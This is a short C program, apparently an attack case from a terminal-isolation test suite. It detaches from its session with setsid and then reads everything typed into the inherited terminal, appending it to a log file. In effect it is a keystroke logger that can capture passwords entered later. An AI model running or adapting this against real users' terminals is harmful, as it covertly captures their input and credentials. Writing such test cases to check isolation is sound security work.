// Leaves the session, and with it job control; then reads what is typed into the terminal that it
// was given, and puts it into the file that its argument names.
#include "attack.h"
#include <poll.h>

int main(int argc, char **argv) {
    int out = open(argv[1], O_CREAT | O_WRONLY | O_APPEND, 0600);
    if (argc != 2 || out < 0) return 3;
    if (fork() == 0) {
        setsid();
        write(out, "ready:", 6);
        for (;;) {
            char bytes[256];
            struct pollfd terminal = {.fd = 0, .events = POLLIN};
            if (poll(&terminal, 1, -1) < 0) continue;
            ssize_t count = read(0, bytes, sizeof bytes);
            if (count > 0) write(out, bytes, count);
        }
    }
    for (;;) pause();
}
